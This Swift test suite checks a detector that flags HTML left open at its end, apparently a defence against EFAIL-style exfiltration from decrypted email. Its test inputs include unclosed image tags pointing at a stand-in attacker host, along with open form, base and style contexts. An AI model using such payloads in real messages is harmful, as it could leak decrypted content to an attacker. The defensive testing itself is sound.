@testable import MIMEScan
import Testing

/// What HTML leaves open at its end, the heart of EF-DE-HTMLOPEN.
@Suite struct HTMLOpenContextTests {
    private func open(_ html: String) -> [String] { HTMLOpenContext.openContexts(in: Array(html.utf8)) }

    @Test(arguments: [
        ("<img src=\"http://attacker.example/", "quoted attribute"),
        ("<IMG SRC='http://attacker.example/", "quoted attribute"),
        ("<p>hi</p><img src=x", "unclosed tag <img"),
        ("<plaintext>", "<plaintext>"),
        ("<textarea name=a>", "<textarea>"),
        ("<xmp>", "<xmp>"),
        ("<style>body{color:red}", "<style>"),
        ("<form action=\"http://a.example/\"><input name=x>", "<form>"),
        ("<div style=\"x\">url(</div>", "url("),
        ("<base href=\"http://a.example/\">", "<base>"),
        ("<!-- never closed", "comment"),
    ])
    func reportsAnOpenContext(_ html: String, _ expected: String) {
        let reasons = open(html)
        #expect(reasons.contains { $0.contains(expected) }, "\(reasons)")
    }

    @Test(arguments: [
        "<p>Hello <b>world</b></p>",
        "<style>p{background:url(a.png)}</style><p>x</p>",
        "<textarea>a</textarea><xmp>b</xmp><form></form>",
        "<p title=\"a > b\">x</p>",
        "a < b and c > d",
        "<!-- a comment --><p>x</p>",
        "<script>if (a < b) { x = '<img src=\"' }</script>",
    ])
    func closedHTMLIsClean(_ html: String) {
        #expect(open(html).isEmpty, "\(open(html))")
    }
}
